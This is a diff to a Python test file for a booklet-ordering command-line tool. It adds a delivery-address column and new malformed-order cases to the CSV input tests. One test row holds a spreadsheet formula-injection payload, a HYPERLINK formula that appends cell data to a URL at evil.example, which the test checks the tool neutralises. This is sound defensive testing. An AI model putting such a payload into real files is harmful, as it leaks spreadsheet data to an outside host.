@@ -327,17 +327,30 @@ def test_a_damaged_cache_file_does_not_stop_builds(tmp_path: Path) -> None:
 
 
 # Order files: (name, the rows after the header, the line and words the refusal must give).
+TO = ",Sister Lee,1 High St,01234 567890"  # where the parcel goes: every row needs it
 ORDER_ATTACKS = [
     (
         "formula is neutralised",
-        'TST-01,standard,5,"=HYPERLINK(""http://evil.example/?""&A1,""Ward 7"")"\n',
+        'TST-01,standard,5,"=HYPERLINK(""http://evil.example/?""&A1,""Ward 7"")"' + TO + "\n",
         None,
         "",
     ),
-    ("unterminated quote", 'TST-01,standard,5,"Ward 7\nTST-01,standard,500,Clinic B\n', 2, "never closed"),
-    ("quantity of 5,000 digits", "TST-01,standard," + "9" * 5000 + ",Ward 7\n", 2, "quantity"),
-    ("field over 128 KiB", "TST-01,standard,5," + "a" * 140_000 + "\n", 2, "longer than 1,000 characters"),
-    ("unknown code", "XXX-99,standard,5,Ward 7\n", 2, "unknown booklet code"),
+    (
+        "unterminated quote",
+        'TST-01,standard,5,"Ward 7\nTST-01,standard,500,Clinic B' + TO + "\n",
+        2,
+        "never closed",
+    ),
+    ("quantity of 5,000 digits", "TST-01,standard," + "9" * 5000 + ",Ward 7" + TO + "\n", 2, "quantity"),
+    ("a typo of 100000 copies", "TST-01,standard,100000,Ward 7" + TO + "\n", 2, "more than the 500 copies"),
+    ("no delivery address", "TST-01,standard,5,Ward 7,Sister Lee,,01234 567890\n", 2, "address is empty"),
+    (
+        "field over 128 KiB",
+        "TST-01,standard,5," + "a" * 140_000 + TO + "\n",
+        2,
+        "longer than 1,000 characters",
+    ),
+    ("unknown code", "XXX-99,standard,5,Ward 7" + TO + "\n", 2, "unknown booklet code"),
 ]
 
 
@@ -346,7 +359,9 @@ def test_order_attack(tmp_path: Path, name: str, rows: str, line: int | None, wo
     content = tmp_path / "content"
     shutil.copytree(FIXTURES, content)
     orders = tmp_path / "orders.csv"
-    orders.write_text("code,variant,quantity,ordered_by\n" + rows, encoding="utf-8")
+    orders.write_text(
+        "code,variant,quantity,ordered_by,delivery_name,address,contact\n" + rows, encoding="utf-8"
+    )
     run = tmp_path / "run"
     result = CliRunner().invoke(
         main, ["order", str(orders), "--out", str(run), "--no-imposed", "--content", str(content)]
